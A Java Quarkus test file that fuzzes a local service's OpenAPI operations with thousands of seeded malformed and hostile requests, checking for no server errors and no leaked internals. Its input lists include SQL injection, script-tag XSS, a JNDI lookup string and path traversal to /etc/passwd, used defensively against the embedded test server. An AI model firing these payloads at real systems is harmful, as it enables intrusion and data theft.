package app.verbatim.reliability;

import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;

import app.verbatim.support.EmbeddedPostgresResource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;

/**
 * Thousands of hostile requests over every operation openapi.yaml lists, generated from a fixed seed: wrong
 * types, overflowing numbers, NUL, lone surrogates and invalid UTF-8, deep nesting, duplicate keys, wrong
 * content types, oversized and injection strings. None may be answered 5xx; every 4xx outside LanguageTool's
 * /v2 API is application/problem+json; no answer shows a stack trace, a class name, SQL or an address.
 */
@QuarkusTest
@WithTestResource(EmbeddedPostgresResource.class)
class HostileRequestsTest {

    static final int REQUESTS = 5200;
    static final Pattern LEAK = Pattern.compile(
            "Exception|\\bat app\\.verbatim|java\\.[a-z]+\\.|org\\.(postgresql|hibernate|jboss)|SELECT |INSERT |\\bFROM [a-z_]+ WHERE|127\\.0\\.0\\.1|jdbc:|localhost:\\d{4,5}");

    static final String[] STRINGS = {"", " ", "a", "\u0000", "x\u0000y", "\uD800", "\uDC00x", "😀", "\u202Eevil",
            "' OR 1=1 --", "\"; DROP TABLE memoir; --", "<script>alert(1)</script>", "${jndi:ldap://x/a}",
            "../../../../etc/passwd", "%00", "%zz", "\\u0000", "null", "true", "-1", "0", "2147483648",
            "9223372036854775808", "1e308", "NaN", "Ilyich said: \"We shall win.\"", "Lenin".repeat(2000),
            "\n\n\n", "\t", "ǅ̈́", "\uFEFF", "x".repeat(6_000)};

    static final String[] NUMBERS = {"-1", "0", "1", "2147483647", "2147483648", "-2147483649", "99999999999999999999",
            "1.5", "1e3", "NaN", "abc", "", "%00", "0x10", " 7 "};

    @TestHTTPResource("/")
    URL base;

    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private final Random random = new Random(20261202);

    record Operation(String method, String path, List<String> queryParameters) {
    }

    @Test
    void shouldNeverAnswer5xxNorLeakInternals() throws Exception {
        List<Operation> operations = operations();
        Map<Integer, Integer> statuses = new TreeMap<>();
        int refusedByCodec = 0;
        List<String> failures = new ArrayList<>();
        for (int i = 0; i < REQUESTS; i++) {
            Operation op = operations.get(i % operations.size());
            Answer answer;
            try {
                answer = send(hostile(op, i));
            } catch (IOException e) {
                // the server closing a connection on an unreadable request is an answer, not a 5xx
                statuses.merge(-1, 1, Integer::sum);
                continue;
            }
            int status = answer.status();
            statuses.merge(status, 1, Integer::sum);
            if (answer.codec()) {
                refusedByCodec++;
            }
            String body = answer.body();
            String where = answer.where();
            if (status >= 500) {
                failures.add(status + " for " + where + ": " + abbreviate(body));
            }
            boolean languageTool = answer.path().startsWith("/v2") || answer.path().equals("/check");
            String type = answer.contentType();
            if (status >= 400 && status < 500 && !languageTool && !answer.codec() && !type.startsWith("application/problem+json")
                    && status != 403 /* a refused CORS preflight has no body */) {
                failures.add(status + " without problem+json (" + type + ") for " + where);
            }
            // an answer may link to the service's own address (LanguageTool rule URLs); an error never names internals
            if (status >= 400 && LEAK.matcher(body).find()) {
                failures.add("internals shown for " + where + ": " + abbreviate(body));
            }
        }
        System.out.println("Hostile requests: " + REQUESTS + " sent over " + operations.size() + " operations; statuses "
                + statuses + "; " + refusedByCodec + " badly escaped addresses refused by the HTTP decoder itself");
        assertTrue(failures.isEmpty(), failures.size() + " failures, first: " + failures.subList(0, Math.min(10, failures.size())));
    }

    /** Every operation of the contract, with its query parameters. */
    private static List<Operation> operations() throws IOException {
        JsonNode contract = new ObjectMapper(new YAMLFactory()).readTree(Files.readString(Path.of("openapi.yaml")));
        List<Operation> out = new ArrayList<>();
        Iterator<Map.Entry<String, JsonNode>> paths = contract.get("paths").fields();
        while (paths.hasNext()) {
            var path = paths.next();
            var methods = path.getValue().fields();
            while (methods.hasNext()) {
                var method = methods.next();
                List<String> query = new ArrayList<>();
                method.getValue().path("parameters").forEach(p -> {
                    if ("query".equals(p.path("in").asText())) {
                        query.add(p.get("name").asText());
                    } else if (p.has("$ref")) {
                        query.add(p.get("$ref").asText().replaceAll(".*/", ""));
                    }
                });
                out.add(new Operation(method.getKey().toUpperCase(), path.getKey(), query));
            }
        }
        return out;
    }

    /** A request as sent: method, raw path and query (possibly not a valid URI), headers, body. */
    record Hostile(String method, String pathAndQuery, Map<String, String> headers, byte[] body) {
    }

    /**
     * What came back; {@code codec}: refused by the HTTP server's own request decoder (a badly escaped address),
     * which answers an empty 400 and closes before any handler of ours can run.
     */
    record Answer(int status, String contentType, String body, String path, String where, boolean codec) {
    }

    /** Through the JDK client when the address is a valid URI; else written by hand on a socket, as an attacker would. */
    private Answer send(Hostile h) throws IOException, InterruptedException {
        String where = h.method() + " " + abbreviate(h.pathAndQuery());
        String path = h.pathAndQuery().replaceAll("\\?.*", "");
        URI uri;
        try {
            uri = URI.create(base.toString().replaceAll("/$", "") + h.pathAndQuery());
        } catch (IllegalArgumentException e) {
            return raw(h, where, path);
        }
        HttpRequest.Builder builder = HttpRequest.newBuilder(uri).timeout(Duration.ofSeconds(30));
        h.headers().forEach(builder::header);
        builder.method(h.method(), h.body() == null ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofByteArray(h.body()));
        HttpResponse<String> r = http.send(builder.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        return new Answer(r.statusCode(), r.headers().firstValue("Content-Type").orElse(""), r.body() == null ? "" : r.body(),
                path, where, false);
    }

    private Answer raw(Hostile h, String where, String path) throws IOException {
        try (java.net.Socket socket = new java.net.Socket(base.getHost(), base.getPort())) {
            socket.setSoTimeout(30_000);
            StringBuilder head = new StringBuilder(h.method() + " " + h.pathAndQuery() + " HTTP/1.1\r\nHost: "
                    + base.getHost() + ":" + base.getPort() + "\r\nConnection: close\r\n");
            h.headers().forEach((k, v) -> head.append(k).append(": ").append(v).append("\r\n"));
            byte[] body = h.body() == null ? new byte[0] : h.body();
            head.append("Content-Length: ").append(body.length).append("\r\n\r\n");
            var out = socket.getOutputStream();
            out.write(head.toString().getBytes(StandardCharsets.UTF_8));
            out.write(body);
            out.flush();
            String response = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            if (response.isEmpty()) {
                throw new IOException("closed without an answer");
            }
            int status = Integer.parseInt(response.substring(9, 12));
            int split = response.indexOf("\r\n\r\n");
            String headers = split < 0 ? response : response.substring(0, split);
            String type = headers.lines().filter(l -> l.toLowerCase().startsWith("content-type:"))
                    .map(l -> l.substring(13).strip()).findFirst().orElse("");
            String content = split < 0 ? "" : response.substring(split + 4);
            boolean codec = status == 400 && content.isEmpty() && headers.toLowerCase().contains("connection: close");
            return new Answer(status, type, content, path, where, codec);
        }
    }

    private Hostile hostile(Operation op, int i) {
        StringBuilder path = new StringBuilder();
        for (String segment : op.path().split("/")) {
            if (segment.isEmpty()) {
                continue;
            }
            path.append('/').append(segment.startsWith("{") ? pathValue(i) : segment);
        }
        StringBuilder query = new StringBuilder();
        for (String name : op.queryParameters()) {
            if (random.nextInt(3) == 0) {
                continue;
            }
            query.append(query.length() == 0 ? '?' : '&').append(name.equals("adminKey") ? "x" : name).append('=')
                    .append(queryValue(name));
        }
        if (random.nextInt(10) == 0) {
            query.append(query.length() == 0 ? '?' : '&').append(random.nextBoolean() ? "page=2147483647&size=200" : "%zz=%zz");
        }
        Map<String, String> headers = new TreeMap<>();
        if (random.nextInt(4) == 0) {
            headers.put("X-Admin-Key", random.nextBoolean() ? "test-admin-key" : "wrong");
        }
        if (op.method().equals("GET")) {
            return new Hostile("GET", path.toString() + query, headers, null);
        }
        Body body = body(i);
        if (body.contentType() != null) {
            headers.put("Content-Type", body.contentType());
        }
        return new Hostile(op.method(), path.toString() + query, headers, body.bytes());
    }

    private String pathValue(int i) {
        String[] values = {"1", "26", "0", "-5", "2147483648", "abc", "%00", "%zz", "%F0%9F%98%80", "1%20OR%201=1",
                "..%2F..%2Fetc", "9".repeat(40), "%ED%A0%80", "3"};
        return values[random.nextInt(values.length)];
    }

    private String queryValue(String name) {
        String raw = random.nextBoolean() ? NUMBERS[random.nextInt(NUMBERS.length)] : STRINGS[random.nextInt(STRINGS.length)];
        if (random.nextInt(8) == 0) {
            return "%ED%A0%80%C3%28"; // invalid UTF-8, sent as is
        }
        return java.net.URLEncoder.encode(raw.length() > 3000 ? raw.substring(0, 3000) : raw, StandardCharsets.UTF_8);
    }

    record Body(String contentType, byte[] bytes) {
    }

    private Body body(int i) {
        String text = STRINGS[random.nextInt(STRINGS.length)];
        String jsonText = new String(org.apache.commons.text.StringEscapeUtils.escapeJson(text).getBytes(StandardCharsets.UTF_8),
                StandardCharsets.UTF_8);
        return switch (random.nextInt(16)) {
            case 0 -> new Body("application/json", ("{\"text\":\"" + jsonText + "\",\"text\":\"again\"}").getBytes(StandardCharsets.UTF_8));
            case 1 -> new Body("application/json", ("[".repeat(20_000) + "]".repeat(20_000)).getBytes(StandardCharsets.UTF_8));
            case 2 -> new Body("application/json", "{\"text\": ".getBytes(StandardCharsets.UTF_8));
            case 3 -> new Body("application/json", ("{\"text\": 12, \"limit\": \"" + jsonText + "\"}").getBytes(StandardCharsets.UTF_8));
            case 4 -> new Body("application/json", ("{\"text\": \"" + jsonText + "\", \"limit\": 99999999999999999999}").getBytes(StandardCharsets.UTF_8));
            case 5 -> new Body("application/json", new byte[] {'{', '"', 't', 'e', 'x', 't', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'});
            case 6 -> new Body("application/xml", "<text>hello</text>".getBytes(StandardCharsets.UTF_8));
            case 7 -> new Body("application/octet-stream", randomBytes(512));
            case 8 -> new Body("text/html", ("<html>" + "<div>".repeat(5000) + "x" + "</div>".repeat(5000)).getBytes(StandardCharsets.UTF_8));
            case 9 -> new Body("text/html; charset=utf-8", randomBytes(2048));
            case 10 -> new Body("text/plain", text.getBytes(StandardCharsets.UTF_8));
            case 11 -> new Body("application/x-www-form-urlencoded", ("text=" + (random.nextBoolean() ? "%zz" : "%") + "&data=%7B").getBytes(StandardCharsets.UTF_8));
            case 12 -> new Body("application/x-www-form-urlencoded", ("language=en&data=" + java.net.URLEncoder.encode("{\"annotation\":[{\"markup\":" + jsonText + "}]", StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8));
            case 13 -> new Body(null, new byte[0]);
            case 14 -> new Body("application/json", ("{\"author\":\"" + jsonText + "\",\"title\":\"T\",\"text\":\"Lenin said: \\\"Hello there comrades\\\"\",\"slug\":\"" + jsonText + "\"}").getBytes(StandardCharsets.UTF_8));
            default -> new Body("application/json", ("{\"text\":\"" + jsonText + "\",\"limit\":" + NUMBERS[random.nextInt(NUMBERS.length)].replace("%00", "0") + "}").getBytes(StandardCharsets.UTF_8));
        };
    }

    private byte[] randomBytes(int n) {
        byte[] b = new byte[n];
        random.nextBytes(b);
        return b;
    }

    private static String abbreviate(String s) {
        return s.length() <= 200 ? s : s.substring(0, 200) + "…";
    }
}
